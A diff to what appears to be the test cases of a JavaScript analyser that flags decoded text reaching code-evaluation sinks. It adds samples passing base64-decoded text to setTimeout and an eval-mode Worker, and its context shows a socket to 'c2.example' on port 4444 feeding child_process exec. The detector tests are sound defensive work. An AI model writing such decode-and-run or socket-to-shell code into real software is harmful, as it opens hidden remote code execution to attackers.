@@ -44,6 +44,16 @@ new Function(text)()`,
     ['decoded Buffer.from 1 → evaluation Function 2'],
   ],
   [
+    'a text that a timer or a thread is given',
+    `const { Worker } = require('worker_threads')
+const text = Buffer.from(require('./words').text, 'base64').toString()
+setTimeout(text, 10)
+new Worker(text, { eval: true })
+new Worker('./work.js', { workerData: text })
+setTimeout(() => console.log(text), 10)`,
+    ['decoded Buffer.from 2 → evaluation setTimeout 3', 'decoded Buffer.from 2 → evaluation worker_threads.Worker 4'],
+  ],
+  [
     'a command from a socket',
     `const net = require('net'), { exec } = require('child_process')
 const s = net.connect(4444, 'c2.example', () => {})
@@ -166,6 +176,12 @@ exports.ping = () => fetch('https://a.example').then((r) => r.json()).then((j) =
     'a program of the system whose output is decoded',
     `const { execFileSync } = require('child_process')
 exports.get = () => Buffer.from(execFileSync('security', ['x']).toString(), 'base64').toString()`,
+  ],
+  [
+    'a request that is ended after a while',
+    `const req = require('https').get('https://a.example/')
+setTimeout(req.destroy.bind(req), 5000)
+setTimeout(req.abort, 9000)`,
   ],
   [
     'a page that is opened',
